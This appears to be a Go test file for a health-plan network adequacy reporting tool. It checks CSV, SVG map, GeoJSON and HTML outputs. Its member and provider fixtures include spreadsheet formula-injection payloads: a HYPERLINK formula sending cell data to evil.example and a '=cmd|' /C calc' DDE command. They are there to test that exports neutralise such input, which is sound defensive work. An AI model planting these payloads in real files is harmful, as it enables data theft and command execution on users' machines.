package report

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"flag"
	"io"
	"maps"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/geoaccess/geoaccess/adequacy"
	"github.com/geoaccess/geoaccess/data"
	"github.com/geoaccess/geoaccess/geo"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// hostileMembers are member rows whose IDs a spreadsheet would take for
// formulas: two unserved in Nome, AK, one served in Manhattan, two
// rejected. Every CSV must neutralise them.
const hostileMembers = `"=HYPERLINK(""http://evil.example/?""&A1,""x"")",64.50,-165.41,,
@SUM(1+1),64.501,-165.411,,
-5,40.75,-73.99,,
+1,91,0,,
'quoted,40,-74,,99999
`

// hostileNames are provider names a spreadsheet would take for formulas.
var hostileNames = []string{"=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "+1", "  =1+1"}

// sampleReport runs a gap report over the sample members, two bad rows and
// the hostile members, for the disciplines and lymphedema therapy, with
// the sample roster's non-participating providers as candidates (named
// with hostileNames).
func sampleReport(t *testing.T) (*adequacy.Engine, *adequacy.GapReport, []adequacy.RecruitPick, []Rejected) {
	t.Helper()
	eng, _, err := data.NewEngine(data.Setup{})
	if err != nil {
		t.Fatal(err)
	}
	roster, err := data.SampleRoster()
	if err != nil {
		t.Fatal(err)
	}
	n, err := eng.NewNetwork(roster)
	if err != nil {
		t.Fatal(err)
	}
	eng = eng.WithNetwork(n)
	b, err := data.SampleMembers()
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitAfter(string(b), "\n")
	file := strings.Join(lines, "") + "BAD1,91,0,,\nBAD2,40,-74,,99999\n" + hostileMembers
	ms, errs, err := data.ReadMembers(strings.NewReader(file), nil)
	if err != nil {
		t.Fatal(err)
	}
	asOf, _ := adequacy.ParseDate("2026-11-24")
	rep, err := eng.Gap(context.Background(), ms, adequacy.GapOptions{AsOf: asOf, Detail: true, Services: []string{"lymphedema"}})
	if err != nil {
		t.Fatal(err)
	}
	var rej []Rejected
	for _, e := range errs {
		rej = append(rej, Rejected{Line: e.Line, MemberID: e.Key, Column: e.Column, Reason: e.Reason})
	}
	for _, r := range rep.Rejected {
		rej = append(rej, Rejected{Line: r.Line, MemberID: r.MemberID, Column: MemberColumn(r.Field), Reason: r.Reason})
	}
	var cands []adequacy.Provider
	for _, p := range roster.Providers {
		if !p.Participating {
			p.Name = hostileNames[len(cands)%len(hostileNames)]
			cands = append(cands, p)
		}
	}
	picks, _, err := rep.Recruit(context.Background(), cands)
	if err != nil {
		t.Fatal(err)
	}
	return eng, rep, picks, rej
}

// The CSV outputs match the golden files (go test ./internal/report -update
// rewrites them; review the diff).
func TestGoldenCSV(t *testing.T) {
	_, rep, picks, rej := sampleReport(t)
	dir := t.TempDir()
	for _, w := range []func() error{
		func() error { return WriteAdequacy(dir, rep) },
		func() error { return WriteUnserved(dir, rep) },
		func() error { return WriteAccess(dir, rep) },
		func() error { return WriteRejected(dir, rej) },
		func() error { return WriteRecruitment(dir, picks) },
	} {
		if err := w(); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"adequacy.csv", "unserved.csv", "member_access.csv", "rejected.csv", "recruitment.csv"} {
		got, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		golden := filepath.Join("testdata", "golden", name)
		if *update {
			if err := os.WriteFile(golden, got, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from %s; rerun with -update and review the diff", name, golden)
		}
	}
	if !strings.Contains(string(mustRead(t, filepath.Join(dir, "rejected.csv"))), "99999") {
		t.Error("rejected.csv lacks the unknown county")
	}
}

func mustRead(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// The static map is well-formed SVG titled with the versions, drawing
// every ring of the counties framed — each county in the shade of its
// row, or grey — with one path per shade, state outlines and a legend.
func TestMapRenders(t *testing.T) {
	eng, rep, _, _ := sampleReport(t)
	l := layout(rep, eng.Map)
	for _, s := range rep.Subjects {
		d := s.Key()
		var b bytes.Buffer
		if err := RenderMap(&b, rep, d, eng.Map, nil); err != nil {
			t.Fatal(err)
		}
		want := map[string]int{} // shade class → rings
		rows := map[string]adequacy.CountyRow{}
		for _, r := range rep.Counties {
			if r.Key() == d {
				rows[r.County.FIPS] = r
			}
		}
		for _, p := range l.panels {
			for _, si := range p.shapes {
				s := eng.Map.Shapes()[si]
				class := "shade-none"
				if r, ok := rows[s.FIPS]; ok {
					class = "shade-" + strconv.Itoa(binOf(r))
				}
				for _, poly := range s.Shape {
					for _, ring := range poly {
						if len(ring) >= 4 {
							want[class]++
						}
					}
				}
			}
		}
		got := map[string]int{}
		title, outlines := "", 0
		dec := xml.NewDecoder(&b)
		inTitle := false
		for {
			tok, err := dec.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: SVG does not parse: %v", d, err)
			}
			switch el := tok.(type) {
			case xml.StartElement:
				if el.Name.Local == "path" {
					class, path := "", ""
					for _, a := range el.Attr {
						switch a.Name.Local {
						case "class":
							class = a.Value
						case "d":
							path = a.Value
						}
					}
					if c, ok := strings.CutPrefix(class, "county "); ok {
						got[c] += strings.Count(path, "M")
					}
					if class == "states" {
						outlines += strings.Count(path, "M")
					}
				}
				inTitle = el.Name.Local == "title" && title == ""
			case xml.CharData:
				if inTitle {
					title = string(el)
					inTitle = false
				}
			}
		}
		if !maps.Equal(got, want) {
			t.Errorf("%s map: rings per shade %v, want %v", d, got, want)
		}
		if outlines == 0 {
			t.Errorf("%s map has no state outlines", d)
		}
		if !strings.Contains(title, "cms-ma 2026.1") || !strings.Contains(title, "sample-2026.11") || !strings.HasPrefix(title, s.Name()+" access") {
			t.Errorf("%s map title %q lacks the versions", d, title)
		}
	}
}

func TestGeoJSONAndHTML(t *testing.T) {
	eng, rep, picks, rej := sampleReport(t)
	dir := t.TempDir()
	if err := WriteGeoJSON(dir, rep, eng.Map); err != nil {
		t.Fatal(err)
	}
	var fc struct {
		Type     string `json:"type"`
		Features []struct {
			Properties map[string]any `json:"properties"`
		} `json:"features"`
		Profile string `json:"profile"`
	}
	if err := json.Unmarshal(mustRead(t, filepath.Join(dir, "gaps.geojson")), &fc); err != nil {
		t.Fatal(err)
	}
	counties, cells := 0, 0
	for _, f := range fc.Features {
		switch f.Properties["kind"] {
		case "county":
			counties++
		case "unserved_cell":
			cells++
		}
	}
	want := map[string]bool{}
	for _, r := range rep.Counties {
		want[r.County.FIPS] = true
	}
	if fc.Type != "FeatureCollection" || fc.Profile != "cms-ma" || counties != len(want) || cells != len(rep.Cells) {
		t.Errorf("geojson: %s %s, %d counties (want %d), %d cells (want %d)", fc.Type, fc.Profile, counties, len(want), cells, len(rep.Cells))
	}
	if err := WriteMaps(dir, rep, eng.Map, map[string][]geo.Point{}); err != nil {
		t.Fatal(err)
	}
	if err := WriteHTML(dir, Page{Report: rep, Shapes: eng.Map, Picks: picks, Rejected: len(rej)}); err != nil {
		t.Fatal(err)
	}
	page := string(mustRead(t, filepath.Join(dir, "index.html")))
	for _, s := range []string{`name="viewport"`, `id="report-data"`, "Worst counties", "Recruitment targets", "cms-ma 2026.1", "sample-2026.11"} {
		if !strings.Contains(page, s) {
			t.Errorf("index.html lacks %q", s)
		}
	}
	if strings.Contains(page, "http://") && !strings.Contains(page, `xmlns="http://www.w3.org/2000/svg"`) || strings.Contains(page, "https://") || strings.Contains(page, "<script src") {
		t.Error("index.html refers to something outside itself")
	}
}
